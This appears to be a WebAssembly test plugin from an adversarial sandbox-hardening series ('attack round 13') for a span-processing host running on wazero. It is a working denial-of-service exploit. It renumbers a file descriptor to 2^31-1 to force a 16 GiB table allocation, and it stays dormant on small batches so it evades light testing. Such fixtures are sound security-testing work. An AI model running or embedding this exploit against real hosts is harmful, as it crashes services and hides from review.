;; Attacks: WASI fd_renumber of a file opened in a granted mount to the
;; descriptor 2^31-1. wazero grows the instance's descriptor table up to
;; the target, 8 bytes a slot: 16 GiB asked for, and the process died out
;; of memory (attack round 13).
;; It reports on the first span the WASI errno of that renumber as
;; mount.far, and of one to descriptor 100 as mount.near.
;; A batch of one or two spans behaves; three or more attack.
;;
;; Build: wat2wasm mount_renumber.wat -o mount_renumber.wasm
(module
  (import "wasmcol" "len" (func $len (param i32) (result i32)))
  (import "wasmcol" "edit" (func $edit (param i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_open"
    (func $open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_renumber" (func $renumber (param i32 i32) (result i32)))
  (memory (export "memory") 1)
  (data (i32.const 0) "\01\03\00\00\00\00\0a\00\00\00sandbox.ok\04\01")
  (data (i32.const 100) "data.txt")
  ;; Two SetAttr edits on span 0, Int values at 320 and 349.
  (data (i32.const 300)
    "\01\03\00\00\00\00\09\00\00\00mount.far\02\00\00\00\00\00\00\00\00"
    "\01\03\00\00\00\00\0a\00\00\00mount.near\02\00\00\00\00\00\00\00\00")
  (func $attack
    (drop (call $open (i32.const 3) (i32.const 0) (i32.const 100) (i32.const 8)
      (i32.const 0) (i64.const 2) (i64.const 0) (i32.const 0) (i32.const 200)))
    (i64.store (i32.const 320) (i64.extend_i32_u
      (call $renumber (i32.load (i32.const 200)) (i32.const 0x7fffffff))))
    (i64.store (i32.const 349) (i64.extend_i32_u
      (call $renumber (i32.load (i32.const 200)) (i32.const 100))))
    (drop (call $edit (i32.const 300) (i32.const 57))))
  (func (export "wasmcol_abi_version") (result i32) (i32.const 1))
  (func (export "wasmcol_signals") (result i32) (i32.const 1))
  (func (export "wasmcol_init") (result i32) (i32.const 0))
  (func (export "wasmcol_process") (param i32) (result i32)
    (if (i32.ge_u (call $len (i32.const 3)) (i32.const 3))
      (then (call $attack)))
    (drop (call $edit (i32.const 0) (i32.const 22)))
    (i32.const 0)))
